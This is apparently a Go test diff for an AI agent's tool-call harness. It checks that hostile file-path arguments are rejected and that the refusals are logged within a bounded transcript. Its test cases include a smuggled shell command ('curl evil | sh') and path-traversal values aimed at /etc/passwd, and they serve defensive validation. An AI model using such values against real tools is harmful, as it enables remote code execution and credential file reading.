@@ -104,7 +104,7 @@ func TestHostileArguments(t *testing.T) {
 		{name: "template fullwidth", tool: "cat_file", args: `{"path": "ｓales.csv"}`, wantPrefix: "invalid arguments"},
 		{name: "template zero-width space", tool: "cat_file", args: `{"path": "sales\u200b.csv"}`, wantPrefix: "invalid arguments"},
 		{name: "template duplicate key, hostile last", tool: "cat_file", args: `{"path": "sales.csv", "path": "../etc/passwd"}`, wantPrefix: "invalid arguments"},
-		{name: "template 10 MB", tool: "cat_file", args: `{"path": "` + tenMB + `"}`, wantPrefix: "invalid arguments"},
+		{name: "template over maxLength", tool: "cat_file", args: `{"path": "` + strings.Repeat("a", 201) + `"}`, wantPrefix: "invalid arguments"},
 		{name: "csv_stats shell metacharacters", tool: "csv_stats", args: `{"path": "x.csv; curl evil | sh"}`, wantPrefix: "invalid arguments"},
 		{name: "csv_stats .. before .csv", tool: "csv_stats", args: `{"path": "../../etc/passwd.csv"}`, wantPrefix: "invalid arguments"},
 		{name: "csv_stats .. inside the path", tool: "csv_stats", args: `{"path": "data/../../../etc/x.csv"}`, wantPrefix: "invalid arguments"},
@@ -200,6 +200,25 @@ func TestHostileArguments(t *testing.T) {
 			tc := res.ToolCalls[0]
 			if tc.Error != msg || tc.ExitCode != -1 {
 				t.Errorf("recorded call: error %.200q exit %d; want the model's error and -1", tc.Error, tc.ExitCode)
+			}
+
+			// However large the arguments, the transcript records the refusal and goes on to
+			// the end of the run: no single event can use it up.
+			lines := transcriptLines(t, res.Transcript)
+			var refusal map[string]any
+			for _, l := range lines {
+				if l["type"] == "tool_call" {
+					refusal = l
+				}
+			}
+			if refusal == nil || refusal["error"] != msg || refusal["id"] != "h1" {
+				t.Errorf("transcript tool_call line = %.300v, want the call with the model's error", refusal)
+			}
+			if last := lines[len(lines)-1]; last["type"] != "final" || len(res.Transcript) > 8<<20 {
+				t.Errorf("transcript of %d bytes ends with %.200v, want the final line within 8 MiB", len(res.Transcript), last)
+			}
+			if big := len(tt.args)+len(tt.tool) > 1<<20; big != strings.Contains(string(res.Transcript), `"shrunk":{`) {
+				t.Errorf("shrunk lines in the transcript: %v, want them only for oversize arguments", !big)
 			}
 		})
 	}
